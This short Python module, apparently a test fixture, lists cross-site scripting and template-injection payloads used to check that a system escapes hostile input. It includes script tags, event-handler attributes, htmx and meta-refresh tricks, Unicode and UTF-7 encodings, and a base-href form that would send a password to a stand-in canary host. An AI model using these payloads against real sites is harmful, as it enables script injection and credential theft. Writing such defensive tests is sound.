"""What an attacker would have a caller say, a platform send or an application report."""

from __future__ import annotations

CANARY = "canary.invalid"

PAYLOADS = (
    f"<script src=//{CANARY}/x.js></script>",
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    f"<img src='http://{CANARY}/x.png'>",
    '"><svg onload=window.ran=1>',
    "'><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    '" onmouseover="window.ran=1" x="',
    "' onfocus='window.ran=1' autofocus x='",
    " onclick=window.ran=1 ",
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1//",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    "</title><script>window.ran=1</script>",
    "</textarea></script></style><b>bold</b>",
    "<!-- --><!--><script>window.ran=1</script>",
    "{{ request.user.password }}{% debug %}{% load static %}",
    f'<div hx-get="//{CANARY}/x" hx-trigger="load" hx-on:load="window.ran=1"></div>',
    f"<a data-hx-post='//{CANARY}/x' hx-trigger=load>x</a>",
    f"<meta http-equiv=refresh content='0;url=http://{CANARY}/'>",
    f"<base href='http://{CANARY}/'><form action=//{CANARY}/><input name=password>",
    f"<style>@import url(//{CANARY}/x.css);body{{background:url(//{CANARY}/y)}}</style>",
    "\u2028<script>window.ran=1</script>\u2029",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "\u202e<script>window.ran=1</script>\u202c\u200b",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.ran=1</x:script>",
    "<\u212aript>\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    '\\"><details open ontoggle=window.ran=1>',
)
PLAIN = "nothing special"
